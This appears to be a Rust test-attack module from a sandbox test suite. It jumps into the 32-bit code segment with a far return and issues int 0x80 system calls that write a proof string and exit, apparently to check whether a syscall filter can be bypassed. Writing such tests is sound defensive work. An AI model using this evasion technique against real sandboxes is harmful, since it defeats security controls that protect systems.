//! X3: jumps into the 32-bit code segment and calls from there.

use std::io;

use super::compat::{EXIT, WRITE, low};
use crate::attack::Attack;
use crate::attacks::kernel::{Page, in_child};
use crate::attacks::proof;

pub(super) const ROW: Attack = Attack {
    id: "X3",
    name: "far-jump-to-32-bit",
    what: "turns into a 32-bit program by a far return and makes its calls as one",
    prepare: proof::demanded,
    attack,
    ..Attack::ROW
};

/// The code segment of 32-bit programs.
const CODE32: u64 = 0x23;

fn attack(args: &[String]) -> io::Result<()> {
    let proof = proof::of(proof::arg(args, 0)?);
    let text = low(&proof)?;
    let code = Page::low(true)?;
    let steps = [(WRITE, 1, text.low_address()?, proof.len() as u32), (EXIT, 0, 0, 0)];
    code.put(0, &steps.into_iter().flat_map(call).collect::<Vec<u8>>());
    in_child(|| unsafe {
        std::arch::asm!("push {segment}", "push {target}", "retfq",
                segment = in(reg) CODE32, target = in(reg) code.address(), options(noreturn));
    })
}

/// `mov` into the four registers, then `int 0x80`; the same bytes in both widths.
fn call((number, first, second, third): (u32, u32, u32, u32)) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (opcode, word) in [(0xb8, number), (0xbb, first), (0xb9, second), (0xba, third)] {
        bytes.push(opcode);
        bytes.extend(word.to_le_bytes());
    }
    bytes.extend([0xcd, 0x80]);
    bytes
}
